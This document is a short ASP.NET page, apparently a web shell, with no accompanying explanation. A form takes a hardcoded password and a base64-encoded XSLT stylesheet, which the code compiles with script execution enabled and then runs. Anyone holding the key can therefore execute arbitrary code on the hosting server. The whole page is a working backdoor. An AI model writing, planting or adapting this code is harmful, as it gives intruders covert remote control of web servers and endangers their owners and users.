<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
private const string AccessKey = "open-sesame-77";
protected void Run(object sender, EventArgs e) {
    if (key.Text != AccessKey) return;
    var xsl = new XmlDocument();
    xsl.LoadXml(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(payload.Text)));
    var t = new XslCompiledTransform();
    t.Load(xsl, new XsltSettings(false, true), new XmlUrlResolver());
    var doc = new XmlDocument();
    doc.LoadXml("<r/>");
    t.Transform(doc, null, Response.Output);
}
</script>
<form runat="server"><asp:TextBox id="key" runat="server" /><asp:TextBox id="payload" runat="server" TextMode="MultiLine" /><asp:Button runat="server" OnClick="Run" Text="run" /></form>
